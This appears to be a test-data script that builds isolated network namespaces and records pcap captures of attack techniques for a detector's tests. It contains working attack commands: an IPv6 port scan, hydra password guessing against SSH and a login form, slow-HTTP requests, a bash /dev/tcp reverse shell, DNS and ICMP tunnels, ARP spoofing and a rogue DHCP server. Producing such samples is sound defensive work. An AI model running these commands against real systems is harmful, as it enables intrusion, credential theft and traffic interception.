#!/usr/bin/env bash
# Makes tests/data/technique_*.pcap: single techniques between real tools in network namespaces of their own.
#   sudo tests/data/make_techniques.sh [FOLDER]     about two minutes; needs iproute2 ethtool tcpdump nmap hydra
#         openssh-server openssh-client dns2tcp iodine ptunnel slowhttptest dsniff dnsmasq netcat-openbsd curl openssl python3
# 10.9.0.66 attacks 10.9.0.10; 10.9.0.1 is the network's router and DHCP server. Nothing leaves the namespaces.
set -euo pipefail
out=$(readlink -f "${1:-$(dirname "$0")}")
work=$(mktemp -d)
chmod 755 "$work"
names=(whodut-wire whodut-evil whodut-host whodut-gate)
cleanup() {
  for n in "${names[@]}"; do
    ip netns pids "$n" 2>/dev/null | xargs -r kill 2>/dev/null || true
    ip netns del "$n" 2>/dev/null || true
  done
  rm -rf "$work"
}
trap cleanup EXIT
for n in "${names[@]}"; do ip netns add "$n"; done
wire="ip netns exec whodut-wire"; evil="ip netns exec whodut-evil"; host="ip netns exec whodut-host"; gate="ip netns exec whodut-gate"
$wire ip link add br0 type bridge ageing_time 0 mcast_snooping 0  # a hub: the sensor sees every frame
$wire ip link set br0 up
join() {  # join NAMESPACE MAC ADDRESS6 ADDRESS…
  local ns=$1 mac=$2 six=$3 port=p-${1#whodut-}
  shift 3
  ip link add e0 netns "$ns" type veth peer name "$port" netns whodut-wire
  $wire ip link set "$port" master br0 up
  ip netns exec "$ns" ip link set lo up
  ip netns exec "$ns" ip link set e0 address "$mac" up
  for a in "$@"; do ip netns exec "$ns" ip addr add "$a/24" dev e0; done
  ip netns exec "$ns" ip addr add "$six/64" dev e0 nodad
  ip netns exec "$ns" ethtool -K e0 tso off gso off tx off >/dev/null 2>&1
}
join whodut-evil 02:00:00:00:00:66 fd09::66 10.9.0.66
join whodut-host 02:00:00:00:00:10 fd09::10 10.9.0.10
join whodut-gate 02:00:00:00:00:01 fd09::1 10.9.0.1
sleep 2

capture() {  # capture NAME SECONDS COMMAND…: what is on the wire while COMMAND runs
  local name=$1 seconds=$2 sensor
  shift 2
  $wire tcpdump -Z root -i br0 -s 0 -U -w "$out/technique_$name.pcap" 'not (icmp6 and (ip6[40] == 143 or ip6[40] == 133))' 2>/dev/null &
  sensor=$!
  sleep 0.8
  timeout "$seconds" "$@" >"$work/$name.out" 2>&1 || true
  sleep 1
  kill "$sensor"
  wait "$sensor" 2>/dev/null || true
}

# --- servers of the host: SSH with an account that exists in there only, a form, pages
ssh-keygen -q -t ed25519 -N '' -f "$work/key"
cp /etc/passwd "$work/passwd"; cp /etc/shadow "$work/shadow"; mkdir -p /run/sshd
echo 'guest:x:4242:4242::/tmp:/bin/sh' >>"$work/passwd"
echo "guest:$(openssl passwd -6 dragon):19000:0:99999:7:::" >>"$work/shadow"
$host sh -c "mount --bind $work/passwd /etc/passwd; mount --bind $work/shadow /etc/shadow
  exec /usr/sbin/sshd -D -f /dev/null -h $work/key -o PidFile=none -o UsePAM=no -o MaxStartups=50" 2>/dev/null &
cat >"$work/form.py" <<'P'
import http.server, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self, code, body, headers=()):
        self.send_response(code)
        for name, value in headers: self.send_header(name, value)
        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def do_GET(self):
        page = b"<form method=post action=/login>Name, password</form>"
        if self.path == "/news": page = b"<p>News of the day, a line of text among many.</p>" * 90
        self.answer(200, b"<html>" + page + b"</html>")
    def do_POST(self):
        form = urllib.parse.parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
        if form.get("password") == ["dragon"]: self.answer(302, b"", [("Location", "/home"), ("Set-Cookie", "session=1")])
        else: self.answer(200, b"<html>Wrong name or password</html>")
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(("10.9.0.10", 80), Handler).serve_forever()
P
$host python3 "$work/form.py" 2>/dev/null &
for i in $(seq 30); do echo "word$i"; done >"$work/words"; echo dragon >>"$work/words"
sleep 1

capture scan6 20 $evil nmap -6 -n -Pn -sS --top-ports 30 fd09::10
capture ssh_guessed 60 $evil hydra -q -t 4 -l guest -P "$work/words" ssh://10.9.0.10
capture form_guessed 60 $evil hydra -q -t 2 -l guest -P "$work/words" 10.9.0.10 http-post-form '/login:user=^USER^&password=^PASS^:Wrong'
capture slow_requests 18 $evil slowhttptest -H -c 60 -r 60 -i 6 -l 14 -u http://10.9.0.10/

# --- shells
($evil sh -c "(sleep 2; for c in id 'uname -s' whoami 'head -2 /etc/passwd' exit; do echo \"\$c\"; sleep 0.5; done) | nc -l -p 4444 -q 1" >/dev/null 2>&1) &
capture reverse_shell 8 $host bash -c 'cd /; sleep 1; exec env -i PS1="www@web:\w\$ " bash --norc -i >& /dev/tcp/10.9.0.66/4444 0>&1'

# --- tunnels
printf 'listen = 10.9.0.1\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = t.example.org\nresources = web:10.9.0.10:80\n' >"$work/dns2tcpd.conf"
$gate dns2tcpd -F -f "$work/dns2tcpd.conf" >/dev/null 2>&1 &
sleep 1
capture dns2tcp 12 $evil bash -c 'dns2tcpc -r web -l 8000 -z t.example.org 10.9.0.1 & sleep 2; curl -s -m 5 http://127.0.0.1:8000/news; kill %1'
ip netns pids whodut-gate | xargs -r kill 2>/dev/null || true
sleep 1
$host ptunnel >/dev/null 2>&1 &
capture icmp_tunnel 10 $evil bash -c 'ptunnel -p 10.9.0.10 -lp 8000 -da 10.9.0.10 -dp 80 & sleep 1; curl -s -m 5 http://127.0.0.1:8000/news; kill %1'

# --- the link
$evil sysctl -qw net.ipv4.ip_forward=1
capture arp_spoofing 14 bash -c "$host ping -i 1 -c 12 10.9.0.1 >/dev/null 2>&1 & $host python3 -c '
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(12): s.sendto(b\"x\", (\"10.9.0.1\", 9)); time.sleep(1)' & $evil arpspoof -i e0 -t 10.9.0.10 10.9.0.1"
dhcp() { $1 dnsmasq -k -C /dev/null --port=0 --interface=e0 --bind-interfaces --dhcp-authoritative --no-ping --leasefile-ro \
           --dhcp-range="$2" --dhcp-option=3,"$3" --dhcp-option=6,"$3" --pid-file= >/dev/null 2>&1; }
dhcp "$gate" 10.9.0.100,10.9.0.120,1h 10.9.0.1 &
dhcp "$evil" 10.9.0.200,10.9.0.220,1h 10.9.0.66 &
cat >"$work/client.py" <<'P'
import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"e0")
s.bind(("0.0.0.0", 68))
for n in range(3):
    mac = bytes([2, 0, 0, 0, 1, n])
    s.sendto(struct.pack("!BBBBIHHIIII16s64s128s", 1, 1, 6, 0, 0x1000 + n, 0, 0x8000, 0, 0, 0, 0, mac, b"", b"") +
             bytes.fromhex("63825363 350101 37020306 ff"), ("255.255.255.255", 67))
    time.sleep(1.5)
P
sleep 1
capture rogue_dhcp 12 $host python3 "$work/client.py"
ls -l "$out"/technique_*.pcap
